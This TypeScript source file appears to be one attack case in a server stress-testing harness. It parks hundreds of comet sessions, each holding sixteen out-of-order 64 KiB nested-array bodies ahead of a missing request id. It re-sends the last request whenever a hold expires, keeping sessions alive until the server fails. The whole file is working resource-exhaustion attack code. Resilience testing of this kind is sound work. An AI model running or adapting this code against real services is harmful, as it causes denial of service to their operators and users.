/**
 * Row 1: rids 2..17 sent ahead of a missing rid 1, each a 64 KiB body of `[[]]`, in session after
 * session; re-sending rid 17 when its hold ends keeps each session past `wait` and `inactivity`.
 */
import { codeOf, nestedArraysBody, SETUP, sidOf } from '../bodies.js';
import { mib, tally, tallyText, type AttackCase, type AttackContext, type Outcome } from '../case.js';
import { post, type RawConn, type RawResponse } from '../raw.js';

/** Sessions set up at once. */
const IN_FLIGHT = 4;
/** rids 2..17: 16 ahead of the missing rid 1, the most the rid window allows. */
const FIRST_RID = 2;
const LAST_RID = 17;
/** A held request is answered after `wait` (60 s by default); allow for that. */
const HOLD_TIMEOUT_MS = 75_000;

export const inboxAhead: AttackCase = {
  name: 'inbox-ahead',
  row: 1,
  summary: 'rids 2..17 ahead of a missing rid 1, each a 64 KiB body of [[]], re-sending rid 17; session after session',
  target: 'echo',
  victim: 'echo',
  count: { what: 'sessions', default: 400 },
  async run(ctx: AttackContext): Promise<Outcome> {
    const want = ctx.count ?? 400;
    const statuses: Record<string, number> = {};
    let started = 0;
    let parked = 0;
    let sent = 0;
    let failed = 0;
    const t0 = performance.now();

    const oneSession = async (onParked: () => void): Promise<void> => {
      const a = ctx.conn();
      const b = ctx.conn();
      const setup = await a.request(post('/comet', SETUP), 10_000);
      const sid = sidOf(setup.body);
      if (sid === null) {
        tally(statuses, `setup ${codeOf(setup.status, setup.body)}`);
        return;
      }
      const inFlight: (Promise<RawResponse> | null)[] = [null, null];
      const send = (conn: RawConn, rid: number): Promise<RawResponse> => {
        const body = nestedArraysBody(sid, rid);
        sent += body.length;
        const p = conn.request(post('/comet', body), HOLD_TIMEOUT_MS);
        // Awaited later, or never once the case stops: never an unhandled rejection.
        p.catch(() => undefined);
        return p;
      };
      for (let rid = FIRST_RID; rid <= LAST_RID && !ctx.stopped; rid++) {
        // Two connections in turn: each request is held until the next one arrives.
        const k = rid % 2;
        const prev = inFlight[k];
        if (prev) tally(statuses, codeOf((await prev).status, ''));
        inFlight[k] = send(k === 0 ? a : b, rid);
      }
      parked++;
      onParked();
      const other = inFlight[(LAST_RID + 1) % 2];
      if (other) tally(statuses, codeOf((await other).status, ''));
      // rid 17 stays held; when `wait` answers it, send it again (a retransmission).
      let last = inFlight[LAST_RID % 2];
      while (last && !ctx.stopped) {
        tally(statuses, codeOf((await last).status, ''));
        last = ctx.stopped ? null : send(LAST_RID % 2 === 0 ? a : b, LAST_RID);
      }
    };

    const worker = async (): Promise<void> => {
      while (!ctx.stopped && started < want) {
        started++;
        // A parked session runs on in the background; the worker goes on to set up the next one.
        await new Promise<void>((resolve) => {
          let isParked = false;
          const onParked = (): void => {
            isParked = true;
            resolve();
          };
          oneSession(onParked).then(resolve, () => {
            // Cut off before it parked its 16 bodies (a parked one ends with the server).
            if (!isParked && !ctx.stopped) failed++;
            resolve();
          });
        });
      }
    };
    await Promise.all(Array.from({ length: IN_FLIGHT }, worker));
    const secs = (performance.now() - t0) / 1000;
    // Sessions sit parked until the deadline or the server's death.
    while (!ctx.stopped) await ctx.sleep(1_000);
    return {
      summary: `${parked} sessions parked 16 bodies (${mib(sent)} sent in ${secs.toFixed(1)} s); answers: ${tallyText(statuses)}; ${failed} sessions cut off before they parked`,
      sessions: parked,
      ownPass: null,
      figures: { sessions_parked: parked, sent_bytes: sent, setup_seconds: secs, cut_off: failed, answers: tallyText(statuses) },
    };
  },
};
